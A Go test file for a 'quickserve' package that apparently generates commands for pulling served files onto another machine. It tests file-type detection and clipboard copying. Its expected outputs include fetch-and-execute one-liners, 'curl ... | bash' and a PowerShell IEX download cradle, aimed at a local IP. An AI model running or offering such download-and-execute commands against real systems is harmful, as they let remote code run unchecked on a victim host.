package quickserve

import (
	"errors"
	"testing"

	"github.com/stretchr/testify/assert"
)

type testClipboard struct {
	contents string
	err      error
}

func (self *testClipboard) WriteAll(text string) error {
	if self.err != nil {
		return self.err
	}

	self.contents = text
	return nil
}

func (self *testClipboard) ReadAll() (string, error) {
	return self.contents, self.err
}

func TestSuggestionKindFor(t *testing.T) {
	assert.Equal(t, ShellScript, SuggestionKindFor(`/tmp/x/run.sh`))
	assert.Equal(t, PowerShellScript, SuggestionKindFor(`Invoke.PS1`))
	assert.Equal(t, WindowsInstaller, SuggestionKindFor(`setup.exe`))
	assert.Equal(t, WindowsInstaller, SuggestionKindFor(`setup.msi`))
	assert.Equal(t, GenericDownload, SuggestionKindFor(`notes.txt`))
	assert.Equal(t, GenericDownload, SuggestionKindFor(`Makefile`))
}

func TestSuggestion(t *testing.T) {
	var url = `http://192.168.1.10:8080`

	assert.Equal(t, `curl -k -s http://192.168.1.10:8080 | bash`, Suggestion(`/a/b/run.sh`, url))
	assert.Equal(t, `IEX(New-Object Net.Webclient).downloadString("http://192.168.1.10:8080")`, Suggestion(`x.ps1`, url))
	assert.Equal(t, `wget http://192.168.1.10:8080 -O $env:TEMP\setup.msi`, Suggestion(`/srv/setup.msi`, url))
	assert.Equal(t, `wget http://192.168.1.10:8080 -O /tmp/notes.txt`, Suggestion(`docs/notes.txt`, url))
}

func TestCopyToClipboard(t *testing.T) {
	var cb = new(testClipboard)

	copied, err := CopyToClipboard(cb, `hello`)
	assert.NoError(t, err)
	assert.Equal(t, `hello`, copied)

	_, err = CopyToClipboard(&testClipboard{err: errors.New(`no display`)}, `hello`)
	assert.Error(t, err)
}
